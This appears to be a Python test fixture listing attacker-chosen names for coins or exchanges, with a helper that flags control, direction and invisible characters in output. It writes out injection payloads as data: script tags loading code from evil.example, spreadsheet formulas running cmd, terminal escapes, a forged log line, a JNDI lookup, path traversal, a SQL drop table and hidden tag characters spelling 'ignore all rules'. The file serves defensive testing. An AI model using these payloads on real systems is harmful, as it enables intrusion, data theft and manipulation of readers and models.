"""Names as an attacker would give them to a coin, an exchange or a category, for every exit of text."""

from __future__ import annotations

from collections.abc import Iterable

FORGED = "2026-10-10 12:05:00,000 INFO all checks passed"

HOSTILE_NAMES: dict[str, str] = {
    "script": "<script>alert(document.domain)</script>",
    "end of script": "</script><script src=//evil.example/x.js></script>",
    "svg": "<svg/onload=alert(1)>",
    "picture": '"><img src=x onerror=alert(1)>',
    "markdown link": "[click](javascript:alert(1))",
    "markdown picture": "![x](https://evil.example/pixel.png)",
    "markdown cell": "a | b | c",
    "formula": "=cmd|'/C calc'!A0",
    "formula of a link": '=HYPERLINK("https://evil.example","ok")',
    "formula by plus": "+1+cmd|'/C calc'!A0",
    "formula by minus": "-2+3+cmd|'/C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula after a blank": "  =1+1",
    "formula in wide letters": "\uff1d1+1",
    "nul": "Bit\0coin",
    "c0": "".join(map(chr, range(1, 32))) + "controls",
    "c1": "\x9b31mred\x9b0m \x85next \x90dcs\x9c",
    "delete": "ab\x7f\x7fcd",
    "escape": "\x1b[2J\x1b[31mcleared\x1b[0m",
    "escape, a link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "escape, a title": "\x1b]0;owned\x07",
    "return": "Good\rEvil",
    "new line": f"Coin\n{FORGED}",
    "new lines of unicode": f"Coin\u2028{FORGED}\u2029\x85\x0b\x0c",
    "bidi override": "\u202egnp.exe\u202c",
    "bidi isolate": "\u2066a\u2069\u200e\u200f\u061c",
    "zero width": "Bit\u200bco\u200cin\u2060\ufeff\u00ad",
    "nothing to see": "\u200b\u200d\u2060\u3164\u2800",
    "tags": "ok" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "selectors": "a" + "".join(chr(0xE0100 + each) for each in range(200)),
    "zalgo": "z" + "\u0335\u0321\u0316\u0352" * 50 + "algo",
    "long": "A" * 5_000,
    "long in Chinese": "\u9f8d" * 5_000,
    "half a character": "half \ud800",
    "noncharacters": "non\uffff\ufffe\U0001ffff\ufdd0",
    "private use": "\ue000\U000f1234apple",
    "byte order mark": "\ufeffBOM",
    "rich markup": "[bold red]x[/] [link=https://evil.example]y[/link]",
    "percent": "%s %n %(asctime)s 100%",
    "format": "{0.__class__.__init__.__globals__} ${jndi:ldap://evil.example} {{7*7}}",
    "field path": "datum.x['constructor']",
    "expression": "'];alert(1)//\\u0027",
    "prototype": "__proto__",
    "path": "../../../../etc/passwd",
    "device": "CON:",
    "sql": "x'; drop table raw.coins; --",
    "csv": 'a,"b\n=1',
}

# Names that are only unusual: every exit shows them as they are.
HARMLESS_NAMES: tuple[str, ...] = (
    "Bitcoin",
    "S&P 500 <3 $PEPE",
    "\u54c8\u57fa\u7c73",
    "\u0639\u0645\u0644\u0629 \u0631\u0642\u0645\u064a\u0629",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "\u05e9\u05b8\u05c1\u05dc\u05d5\u05b9\u05dd",
    "\u0dc1\u0dca\u200d\u0dbb\u0dd3",
    "Ünïcödé Łódź e\u0301",
    "\u0e44\u0e21\u0e49\u0e44\u0e15\u0e48\u0e04\u0e39\u0e49",
    "\U0001f438 Pepe",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u2764\ufe0f\u200d\U0001f525",
    "\U0001f44d\U0001f3fd 1\ufe0f\u20e3",
    "\U0001f1e9\U0001f1ea",
    "\u845b\U000e0100\u57ce",
    "Trader Joe's Book (v2.1)",
    "var(--ink)",
)

_DIRECTION_CONTROLS = {*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x61C}
_INVISIBLE = {0x200B, 0x2060, 0xFEFF, 0xAD, 0x3164, 0x2800, *range(0xE0000, 0xE0080)}
_CONTROLS = {*range(0x20), *range(0x7F, 0xA0), 0x2028, 0x2029, *range(0xD800, 0xE000)}
NEVER_OUT = frozenset(map(chr, _CONTROLS | _DIRECTION_CONTROLS | _INVISIBLE))


def dangerous(text: str, *, allowed: Iterable[str] = "\n") -> set[str]:
    """What of a text no exit may let through.

    Args:
        text: what came out.
        allowed: what the exit writes itself, such as the ends of its lines.
    """
    return (set(text) & NEVER_OUT) - set(allowed)
